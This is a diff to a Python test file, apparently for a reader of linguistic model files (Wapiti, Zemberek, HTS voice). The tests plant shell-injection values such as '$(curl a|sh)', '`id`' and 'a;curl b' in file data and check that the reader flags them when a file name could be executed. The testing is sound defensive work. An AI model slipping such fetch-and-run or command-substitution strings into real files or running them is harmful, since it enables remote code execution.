@@ -327,12 +327,31 @@ def test_every_text_of_a_labeller_has_its_length(read_bytes, features):
         assert has_fault(read_bytes(data[:end], "model"))
 
 
+def write_labeller(command: bytes) -> bytes:
+    """Return a model of Wapiti with a label."""
+    return bytes(build_labeller().data).replace(b"4:NOUN,", b"%d:%s," % (len(command), command))
+
+
+def write_lexicon(command: bytes) -> bytes:
+    """Return a lexicon of Zemberek with a lemma; a line ends before each."""
+    item = b"\n" + bytes([len(command)]) + command + b"\x28\x01"
+    return 12 * (b"2" + bytes([len(item)]) + item)
+
+
 @pytest.mark.parametrize("command", [b"$(curl a|sh)", b"`id`", b'system("id")#', b"a;curl b"])
 @pytest.mark.parametrize(("name", "is_open"), [("configure", True), ("model.nu", True), ("model.wap", False)])
-def test_commands_in_texts_of_wapiti_leave_an_absence_under_a_name_that_may_be_run(
-    read_bytes, command: bytes, name: str, is_open: bool
+@pytest.mark.parametrize("write", [write_labeller, write_lexicon])
+def test_commands_in_data_of_lines_leave_an_absence_under_a_name_that_may_be_run(
+    read_bytes, write, command: bytes, name: str, is_open: bool
 ) -> None:
-    """Each of these names lets a shell or an interpreter run the file, which begins with comments."""
-    content = bytes(build_labeller().data).replace(b"4:NOUN,", b"%d:%s," % (len(command), command))
+    """Each of these names lets a shell or an interpreter run the file, which passes over what it does not know."""
+    assert [reason for _, reason in read_bytes(write(command), name).unread] == [UnreadReason.PROGRAM] * is_open
+    assert not read_bytes(write(b"kitap"), name).unread
+
+
+@pytest.mark.parametrize(("name", "is_open"), [("run", True), ("voice.htsvoice", False)])
+def test_commands_in_the_head_of_a_voice_leave_an_absence_under_a_name_that_may_be_run(
+    read_bytes, name: str, is_open: bool
+) -> None:
+    content = bytes(build_voice().data).replace(b"COMMENT:", b"COMMENT:$(curl a|sh)")
     assert [reason for _, reason in read_bytes(content, name).unread] == [UnreadReason.PROGRAM] * is_open
-    assert not read_bytes(bytes(build_labeller().data), name).unread
